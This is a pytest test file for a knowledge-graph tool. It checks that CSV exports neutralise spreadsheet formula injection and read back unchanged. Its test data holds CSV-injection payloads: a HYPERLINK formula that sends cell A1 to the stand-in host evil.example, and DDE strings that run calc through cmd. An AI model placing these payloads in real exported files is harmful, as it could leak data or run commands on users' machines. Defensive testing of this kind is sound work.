"""CSV cells a spreadsheet would run as a formula are written as text (OWASP), and read back as written."""
from __future__ import annotations

import csv
import json

import networkx as nx
import pandas as pd
import pytest

import kgraph
from kgraph.outputs import write_outputs
from kgraph.tables import FORMULA_START, csv_cell, graph_tables, plain_cell, read_table

TABLES = ("triples", "entities", "meetings", "documents")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+c4", "-c5", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "'=quoted already", "''@twice", "=", "-", "'", "plain text", "O'Brien", ""]


def cells(folder):
    for name in TABLES:
        with open(folder / f"{name}.csv", newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                yield from row


def formulas(cells) -> list[str]:
    """Cells a spreadsheet would run; a number such as ``-0.5`` is read as a number."""
    def number(cell):
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [c for c in cells if c[:1] in FORMULA_START and not number(c)]


def hostile_graph() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    for n, text in enumerate(HOSTILE):
        g.add_node(f"person:{n}", kind="person", label=text or "x", aliases=[text, "@" + text], role=text,
                   country=text, mentions=n, documents=[text])
    g.add_node("meeting:m", kind="meeting", label="=Meeting", date="-2015", date_text="@noon",
               location="+Geneva", mode="=visit", status="-held")
    for n, text in enumerate(HOSTILE):
        g.add_edge(f"person:{n}", f"person:{(n + 1) % len(HOSTILE)}", relation=text or "meet", category=text,
                   negated=bool(n % 2), confidence=-0.5 if n == 2 else 0.5, date=text, doc_id=text,
                   sent_index=n, sentence=text + " said =1+1")
        g.add_edge(f"person:{n}", "meeting:m", relation="participant", doc_id=text, sent_index=n,
                   sentence="\t" + text)
    g.graph["document_info"] = {text: {"title": text, "date": text, "url": text, "source": text, "statements": n,
                                       "meetings": 1} for n, text in enumerate(HOSTILE)}
    return g


@pytest.mark.parametrize("text", HOSTILE + ["==", "'+", "'''-x", "x=1"])
def test_cell_escape_round_trips(text):
    written = csv_cell(text)
    assert written[:1] not in FORMULA_START or written == ""
    assert plain_cell(written) == text


def test_no_cell_starts_a_formula_and_everything_reads_back(tmp_path):
    graph = hostile_graph()
    write_outputs(graph, tmp_path)
    written = list(cells(tmp_path))
    assert written and formulas(written) == [] and "-0.5" in written
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in written and "'\t=1+1" in written
    assert "''=quoted already" in written and "O'Brien" in written  # only formulas get the quote
    expected = graph_tables(graph)
    for name in TABLES:
        pd.testing.assert_frame_equal(read_table(tmp_path / f"{name}.csv"), expected[name], check_dtype=False)
    kg = kgraph.load(tmp_path)
    assert kg.graph.nodes["person:0"]["label"] == HOSTILE[0]
    assert kg.graph.nodes["person:2"]["aliases"] == ["-c5", "@-c5"]
    statements = kg.statements()
    # GraphML keeps line ends as XML parsers do: a carriage return comes back as a newline
    assert set(statements["doc_id"]) == {t.replace("\r", "\n") for t in HOSTILE}
    assert "+c4 said =1+1" in set(statements["sentence"])


def test_real_pipeline_hostile_article(tmp_path):
    from kgraph.pipeline import build
    from kgraph.records import BuildConfig

    texts = ["-- Putin met Angela Merkel in Berlin on Monday.", "@Reuters: Vladimir Putin met Angela Merkel.",
             "+ Vladimir Putin accused Ukraine of lying.", "=Vladimir Putin accused Ukraine of lying."]
    docs = [{"id": f'=HYPERLINK("http://evil.example","{n}")', "text": text, "title": f"@SUM({n})",
             "url": f"=cmd|' /C calc'!A{n}"} for n, text in enumerate(texts)]
    (tmp_path / "in.jsonl").write_text("\n".join(json.dumps(d) for d in docs) + "\n", encoding="utf-8")
    graph = build([str(tmp_path / "in.jsonl")], BuildConfig(default_date="2019-01-01", cache=False)).graph
    write_outputs(graph, tmp_path / "out")
    written = list(cells(tmp_path / "out"))
    assert formulas(written) == []
    for text in texts + [docs[0]["id"], docs[0]["title"], docs[0]["url"]]:
        assert "'" + text in written  # the sentence, the doc id and the document's title and url, shown as text
    kg = kgraph.load(tmp_path / "out")
    statements = kg.statements()
    assert set(texts[1:]) <= set(statements["sentence"]) and docs[3]["id"] in set(statements["doc_id"])
    assert texts[0] in set(kg.meetings("Merkel")["sentence"])
    for name in TABLES:
        pd.testing.assert_frame_equal(read_table(tmp_path / "out" / f"{name}.csv"), graph_tables(kg.graph)[name],
                                      check_dtype=False)
